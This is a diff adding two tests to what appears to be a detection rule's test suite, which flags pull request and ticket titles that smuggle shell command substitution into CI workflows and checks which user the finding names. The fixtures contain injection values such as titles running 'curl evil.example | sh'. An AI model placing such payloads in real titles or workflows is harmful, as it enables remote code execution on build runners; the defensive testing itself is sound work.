@@ -73,6 +73,36 @@ test('code in a title only informs where no workflow runs for it, and of the hou
   );
 });
 
+test('whoever triages what a stranger wrote did not write it', () => {
+  const { findings } = expectTimeline(
+    rule,
+    `
+    ${runsFor('pull_request_target')}
+    08:30           eve      starts run 2 of triage in acme/app at c1 (trigger issues)
+    09:00           mallory  opens #7 in acme/app from x at c2 (of fork mallory; association NONE; titled fix $⟨curl -s evil.example | bash⟩)   ← FOUND acme/app#7 [high]
+    09:01           mallory  writes ticket #8 in acme/app (titled run $⟨curl evil.example | sh⟩)   ← FOUND acme/app#8 [high]
+    day 40  09:00   ada      retargets #7 in acme/app to next
+    day 40  09:01   ada      reopens ticket #8 in acme/app (of mallory; titled run $⟨curl evil.example | sh⟩)
+    `,
+    { anyOrder: false },
+  );
+  expect(findings.flatMap(({ response }) => response)).toMatchObject([{ user: 'mallory' }, { user: 'mallory' }]);
+});
+
+test('who edits the title of a stranger may write, and wrote it; a stranger who edits their own is one', () => {
+  const { findings } = expectTimeline(
+    rule,
+    `
+    ${runsFor('issues')}
+    09:00  mallory  writes ticket #8 in acme/app
+    09:01  mallory  edits ticket #8 in acme/app (titled run $⟨curl evil.example | sh⟩)   ← FOUND acme/app#8 [high]
+    09:02  mallory  writes ticket #9 in acme/app
+    09:03  ada      edits ticket #9 in acme/app (of mallory; titled run $⟨curl evil.example | sh⟩)   ← FOUND acme/app#9 [low]
+    `,
+  );
+  expect(findings.flatMap(({ response }) => response)).toMatchObject([{ user: 'mallory' }]);
+});
+
 test('many texts of one stranger are one finding each field, and hide none', () => {
   const many = Array.from(
     { length: 90 },
